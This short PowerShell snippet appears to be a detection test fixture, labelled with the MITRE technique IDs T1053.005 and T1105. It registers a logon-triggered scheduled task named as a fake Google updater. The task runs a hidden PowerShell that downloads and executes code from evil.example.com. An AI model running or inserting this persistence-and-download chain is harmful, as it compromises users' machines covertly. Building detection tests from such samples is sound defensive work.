# expect: T1053.005 T1105
$action = New-ScheduledTaskAction -Execute 'powershell.exe' -Argument '-NonInteractive -WindowStyle Hidden -c "IEX (New-Object Net.WebClient).DownloadString(''http://evil.example.com/t'')"'
$trigger = New-ScheduledTaskTrigger -AtLogOn
Register-ScheduledTask -TaskName 'GoogleUpdateTaskMachine' -Action $action -Trigger $trigger
